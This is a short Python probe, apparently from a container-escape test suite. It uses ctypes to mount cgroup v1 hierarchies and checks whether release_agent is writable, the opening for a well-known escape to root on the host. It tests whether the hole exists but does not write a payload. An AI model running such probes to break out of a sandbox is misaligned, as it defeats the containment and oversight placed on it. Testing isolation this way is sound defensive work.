# attack: mounts the groups of processes (version 1), whose release_agent runs on the host as root
# family: ctypes
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("groups", exist_ok=True)
for options in (b"rdma", b"memory", b"misc", b"none,name=hosA"):
    if libc.mount(b"cgroup", b"groups", b"cgroup", 0, options) == 0:
        print("REACHED mounted", options, os.listdir("groups")[:9])
        os.close(os.open("groups/release_agent", os.O_WRONLY))
        print("ESCAPED may write release_agent")
    else:
        print(options, os.strerror(ctypes.get_errno()))
